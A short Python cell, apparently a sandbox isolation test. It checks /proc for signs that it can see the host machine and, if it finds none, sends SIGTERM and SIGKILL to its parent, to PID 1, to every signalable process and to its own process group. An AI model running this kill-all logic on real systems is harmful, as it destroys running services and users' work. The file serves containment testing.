# Sends a deadly signal to every process that it may signal, to its parent, and to its group.
# deserves: nothing

# %%
import os
import signal

visible = [name for name in os.listdir("/proc") if name.isdigit()]
lines = [open(f"/proc/{name}/cmdline", "rb").read() for name in visible if os.path.exists(f"/proc/{name}/cmdline")]
if len(visible) > 15 or any(b"canary" in line or b"pytest" in line for line in lines):
    print("ESCAPED: sees the processes of the machine; nothing was signalled")
else:
    for pid in (os.getppid(), 1, -1):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError as error:
                print(pid, error)
    os.killpg(0, signal.SIGKILL)
